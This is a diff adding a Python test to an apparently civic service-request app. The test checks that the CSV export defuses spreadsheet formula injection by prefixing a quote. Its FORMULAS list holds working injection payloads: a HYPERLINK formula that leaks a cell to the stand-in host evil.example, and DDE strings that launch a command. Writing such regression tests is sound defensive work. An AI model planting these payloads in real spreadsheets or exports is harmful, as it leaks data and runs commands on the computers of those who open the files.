@@ -133,3 +133,34 @@ def test_imported_city_exports_source_ids_and_tracts(shared_data, tmp_path):
     assert case["requested_datetime"] == "2014-04-30T14:51:52-07:00"
     assert case["channel"] == "phone"
     assert all(r["area_tract"].startswith("06075") for r in rows)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_csv_cells_never_start_a_formula_but_numbers_stay_numbers(city, tmp_path):
+    for formula in FORMULAS:
+        submit_pothole(city, description=formula, address=formula)
+    # Text stored before the domain stripped it (an old import) may start with a tab or CR.
+    legacy = submit_pothole(city)
+    ServiceRequest.objects.filter(pk=legacy.pk).update(
+        description="\t=1+1", status_notes="\r=1+1", source_id="-42"
+    )
+    target = tmp_path / "export.csv"
+
+    call_command("export_requests", jurisdiction=city.jurisdiction.slug, output=str(target))
+
+    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
+    assert [r["description"] for r in rows] == [f"'{f}" for f in FORMULAS] + ["'\t=1+1"]
+    assert [r["address"] for r in rows[:4]] == [f"'{f}" for f in FORMULAS]
+    assert (rows[4]["status_notes"], rows[4]["source_id"]) == ("'\r=1+1", "'-42")
+    for row in rows:
+        assert (row["lat"], row["long"], row["supporters"]) == ("34.05", "-118.25", "0")
+        assert row["requested_datetime"][:2] == "20"
+        texts = [v for k, v in row.items() if k not in ("lat", "long")]
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in texts)
